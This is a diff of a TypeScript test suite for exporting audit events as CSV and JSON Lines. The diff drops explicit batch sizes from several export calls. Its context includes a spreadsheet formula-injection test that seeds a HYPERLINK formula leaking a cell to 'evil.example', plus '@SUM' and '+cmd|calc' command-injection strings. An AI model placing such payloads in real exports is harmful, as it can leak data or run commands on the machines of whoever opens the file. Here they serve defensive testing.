@@ -77,7 +77,7 @@ describe('exportAuditEvents', () => {
     const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
     await seed(sub, 3, { name: evil });
     await appendAuditEvent(db, { type: 'MAPPING_CREATED', actor: { sub, email: null, name: '@SUM(1+1)', groups: [sub], idpKind: 'OIDC' }, details: { roleLabel: '+cmd|calc' } });
-    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv', batchSize: 2 }));
+    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv' }));
     const lines = csv.trimEnd().split('\r\n');
     expect(lines[0]).toMatch(/^id,occurredAt,type,/);
     expect(lines).toHaveLength(1 + 4);
@@ -91,7 +91,7 @@ describe('exportAuditEvents', () => {
   it('streams JSON Lines in batches with every row once', async () => {
     const sub = `s-${randomUUID()}`;
     await seed(sub, 5);
-    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl', batchSize: 2 }));
+    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl' }));
     const rows = text.trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; actorSub: string; hash: string });
     expect(rows).toHaveLength(5);
     expect(new Set(rows.map((r) => r.id)).size).toBe(5);
@@ -119,9 +119,9 @@ describe('exportAuditEvents', () => {
     const expected = (
       await db.auditEvent.findMany({ where: { actorSub: sub }, orderBy: [{ occurredAt: 'desc' }, { id: 'desc' }], select: auditEventSelect })
     ).map(toAuditEventView);
-    const jsonl = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl', batchSize: 4 }));
+    const jsonl = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl' }));
     expect(jsonl).toBe(expected.map((e) => `${JSON.stringify(Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, e[c]])))}\n`).join(''));
-    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv', batchSize: 4 }));
+    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv' }));
     const cells = (e: (typeof expected)[number]) =>
       EXPORT_COLUMNS.map((c) => (c === 'actorGroups' ? e.actorGroups.join(';') : c === 'details' ? JSON.stringify(e.details ?? {}) : (e[c] as string | number | null)));
     expect(csv).toBe(csvLine(EXPORT_COLUMNS) + expected.map((e) => csvLine(cells(e))).join(''));
@@ -133,9 +133,9 @@ describe('exportAuditEvents', () => {
     await seed(sub, 3);
     await seed(other, 2);
     expect(await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: `none-${randomUUID()}` }, format: 'csv' }))).toBe(csvLine(EXPORT_COLUMNS));
-    const own = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: other }, format: 'jsonl', batchSize: 3 }));
+    const own = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: other }, format: 'jsonl' }));
     expect(own).toBe('');
-    const mine = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: 'grp-a' }, format: 'jsonl', batchSize: 3 }));
+    const mine = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: 'grp-a' }, format: 'jsonl' }));
     expect(mine.trimEnd().split('\n').map((l) => (JSON.parse(l) as { actorSub: string }).actorSub)).toEqual([sub, sub, sub]);
   });
   it('exports by person exactly what the search pages through: every e-mail of the person, and session-name events', async () => {
@@ -153,7 +153,7 @@ describe('exportAuditEvents', () => {
       cursor = page.nextCursor ?? undefined;
     } while (cursor);
     expect(searched).toHaveLength(7);
-    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { person: email }, format: 'jsonl', batchSize: 3 }));
+    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { person: email }, format: 'jsonl' }));
     expect(text.trimEnd().split('\n').map((l) => (JSON.parse(l) as { id: string }).id)).toEqual(searched);
   });
 });
